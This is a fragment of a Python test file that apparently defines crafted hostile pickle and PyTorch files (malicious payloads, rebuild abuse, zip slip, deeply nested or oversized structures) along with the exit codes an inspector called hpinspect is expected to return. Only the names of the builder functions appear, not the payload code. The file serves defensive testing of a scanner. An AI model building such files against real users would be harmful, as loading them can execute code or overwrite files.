    _case("nested_330.pkl", lambda: nested_estimators(330, "estimator"), {0, 2}),
    _case("long_key.pkl", lambda: nested_estimators(300, "e" * 60_000), {0}),
    _case("unflagged_object.pkl", lambda: b"\x80\x02" + frombuffer_with_dtype_state(
        v8_state("O8", 0)) + b".", {2}),
    _case("unflagged_object_coef.pkl", lambda: estimator_with(
        "coef_", frombuffer_with_dtype_state(v8_state("O8", 0))), {2}),
    _case("field_outside.pkl", lambda: estimator_with(
        "coef_", frombuffer_with_dtype_state(v8_state("u8", 4))), {2}),
    _case("int_4817_digits.pkl", lambda: estimator_with(
        "alpha", long4(7 * (10**4817 - 1) // 9)), {0}),
    _case("deep_tuple_key.pkl", lambda: estimator_with(
        "vocabulary_", b"}N" + b"\x85" * 990 + b"Ns"), {0}),
    _case("deep_private_list.pkl", lambda: estimator_with(
        "_private", b"]" * 700 + b"a" * 699), {0}),
    _case("dag.pkl", lambda: dag_of_estimators(40), {0}),
    _case("many.pkl", lambda: many_estimators(20_000), {0}),
    Crafted("long_global.pkl", _crafted("long_global.pkl", long_global_name(16 << 20)),
            frozenset({3}), unsafe=True),
    Crafted("frame_past_eof.pkl", lambda d, c: _write(d / "frame_past_eof.pkl",
                                                       frame_past_eof(c)),
            frozenset({3}), unsafe=True),
    Crafted("hostile_text", build_hostile_text, frozenset({3}), unsafe=True,
            control_text=True),
    Crafted("control_file_name", build_control_file_name, frozenset({3}), unsafe=True,
            control_text=True),
    Crafted("object_array_elements", build_object_array_elements, frozenset({3}),
            unsafe=True, control_text=True),
    *(Crafted(f"torch_legacy_payload_{i}", build_torch_legacy_payload(i), frozenset({3}),
              unsafe=True) for i in (2, 3, 4)),
    Crafted("torch_zip_payload", build_torch_zip_payload, frozenset({3}), unsafe=True),
    Crafted("torch_rebuild_abuse", build_torch_rebuild_abuse, frozenset({3}), unsafe=True),
    Crafted("zip_slip", build_zip_slip, frozenset({3})),
    Crafted("torch_short_storage", build_torch_short_storage, frozenset({2})),
)
"""Crafted files, each with the exit codes hpinspect may end with."""

SWEEP: tuple[Crafted, ...] = (
    *(Crafted(t.name, t.build, frozenset({3}), unsafe=True) for t in TECHNIQUES),
    *CRAFTED,
)
"""Every hostile file the suite builds, as one iterable (payload techniques and crafted)."""
